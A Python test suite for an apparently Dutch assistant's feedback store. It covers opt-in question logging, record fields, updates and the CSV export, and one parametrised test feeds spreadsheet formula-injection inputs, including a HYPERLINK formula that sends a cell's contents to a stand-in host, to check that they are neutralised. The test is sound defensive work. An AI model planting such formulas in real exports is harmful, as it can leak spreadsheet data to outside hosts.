"""Feedback store: what is kept (and what not), updates, listing and the CSV export."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest
from helpers import cli_env, livc_in_process

from assistant.core.chunking import Passage
from assistant.core.settings import Settings
from assistant.core.types import Answer, Citation
from assistant.web.feedback import REASONS, FeedbackStore, feedback_path, from_answer


def passage(**extra) -> Passage:
    values = dict(
        id="p1",
        doc="draaiboek-livc-r.md",
        title="Draaiboek LIVC-R",
        section="5.2 De burgemeester",
        section_path=["5. Samenstelling en rollen", "5.2 De burgemeester"],
        anchor="52-de-burgemeester",
        kind="guide",
        text="De burgemeester richt de LIVC-R op, zit ze voor en voert de regie.",
        sentences=["De burgemeester richt de LIVC-R op, zit ze voor en voert de regie."],
    )
    values.update(extra)
    return Passage(**values)


def answer(question: str = "Wie zit de cel voor, want Jan Peeters uit de Kerkstraat baart zorgen?") -> Answer:
    p = passage()
    return Answer(question=question, text=f"{p.text} [1]", citations=[Citation(1, p, p.text)], mode="extractive")


def test_question_text_is_kept_only_when_the_operator_enabled_it(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    off = store.add(from_answer(answer(), -1, log_questions=False, reason="bron klopt niet"))
    on = store.add(from_answer(answer(), 1, log_questions=True))

    rows = {r.id: r for r in store.list()}
    assert rows[off].question is None
    assert rows[on].question.startswith("Wie zit de cel voor")
    # Not hidden somewhere else in the file either.
    raw = (
        sqlite3.connect(tmp_path / "feedback.sqlite").execute("SELECT * FROM feedback WHERE id = ?", (off,)).fetchone()
    )
    assert not any("Peeters" in str(v) for v in raw)


def test_a_record_holds_rating_reason_answer_citations_and_mode(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    fid = store.add(from_answer(answer(), -1, log_questions=False, reason="antwoord onvolledig"))
    [record] = store.list()
    assert record.id == fid and record.rating == -1 and record.reason == "antwoord onvolledig"
    assert record.mode == "extractive" and not record.abstained
    assert record.answer.endswith("[1]")
    assert record.citations == [
        {
            "n": 1,
            "passage_id": "p1",
            "doc": "draaiboek-livc-r.md",
            "section": "5.2 De burgemeester",
            "section_path": ["5. Samenstelling en rollen", "5.2 De burgemeester"],
        }
    ]
    assert record.created_at  # ISO timestamp


def test_an_abstention_keeps_the_suggested_sections(tmp_path):
    p = passage()
    abstained = Answer(
        question="Parkeren?",
        text="Dit staat niet in de gids.",
        abstained=True,
        suggestions=[Citation(1, p, p.sentences[0])],
    )
    store = FeedbackStore(tmp_path / "f.sqlite")
    store.add(from_answer(abstained, -1, log_questions=False))
    [record] = store.list()
    assert record.abstained and record.citations[0]["section"] == "5.2 De burgemeester"


def test_update_delete_and_validation(tmp_path):
    store = FeedbackStore(tmp_path / "f.sqlite")
    fid = store.add(from_answer(answer(), 1, log_questions=False))
    store.update(fid, rating=-1)
    store.update(fid, reason=REASONS[0])
    [record] = store.list()
    assert (record.rating, record.reason) == (-1, REASONS[0])
    with pytest.raises(ValueError):
        store.update(fid, reason="iets dat niet in de lijst staat")
    with pytest.raises(ValueError):
        store.add(from_answer(answer(), 0, log_questions=False))
    store.delete(fid)
    assert store.list() == []


def test_csv_export_has_one_row_per_record(tmp_path):
    store = FeedbackStore(tmp_path / "f.sqlite")
    for rating in (1, -1, -1):
        store.add(from_answer(answer(), rating, log_questions=False))
    out = io.StringIO()
    assert store.export_csv(out) == 3
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["rating"] for r in rows] == ["1", "-1", "-1"]
    assert json.loads(rows[0]["citations"])[0]["doc"] == "draaiboek-livc-r.md"
    assert rows[0]["question"] == ""


def test_the_database_lies_beside_the_index_unless_configured(tmp_path):
    settings = Settings.load(overrides={"index_dir": tmp_path / "index"}, environ={}, config_file=_empty(tmp_path))
    assert feedback_path(settings) == tmp_path / "feedback.sqlite"
    other = Settings.load(
        overrides={"feedback_db": str(tmp_path / "x.sqlite")}, environ={}, config_file=_empty(tmp_path)
    )
    assert feedback_path(other) == tmp_path / "x.sqlite"


def test_livc_feedback_lists_and_exports(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.add(from_answer(answer(), -1, log_questions=False, reason="bron klopt niet"))
    env = cli_env(LIVC_INDEX_DIR=str(tmp_path / "index"), LIVC_CONFIG=str(_empty(tmp_path)))

    listed = livc_in_process("feedback", env=env)
    assert listed.returncode == 0, listed.stderr
    assert "down bron klopt niet" in listed.stdout and "5.2 De burgemeester" in listed.stdout

    target = tmp_path / "export.csv"
    exported = livc_in_process("feedback", "--csv", str(target), env=env)
    assert exported.returncode == 0, exported.stderr
    assert len(list(csv.DictReader(target.open(encoding="utf-8")))) == 1


def _empty(folder: Path) -> Path:
    path = folder / "empty.toml"
    path.write_text("", encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "typed", ['=HYPERLINK("http://127.0.0.9/x?"&A1;"klik")', "+32 cmd", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
)
def test_livc_feedback_csv_never_writes_a_live_formula(tmp_path, typed):
    import dataclasses

    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.add(
        dataclasses.replace(
            from_answer(answer(), -1, log_questions=True, reason="bron klopt niet"), question=typed, answer=typed
        )
    )
    env = cli_env(LIVC_INDEX_DIR=str(tmp_path / "index"), LIVC_CONFIG=str(_empty(tmp_path)))
    target = tmp_path / "export.csv"
    exported = livc_in_process("feedback", "--csv", str(target), env=env)
    assert exported.returncode == 0, exported.stderr
    row = next(csv.DictReader(target.open(encoding="utf-8", newline="")))
    for column in ("question", "answer"):
        assert row[column] == "'" + typed  # shown as the text it is, never run
    assert row["reason"] == "bron klopt niet" and row["citations"].startswith("[")
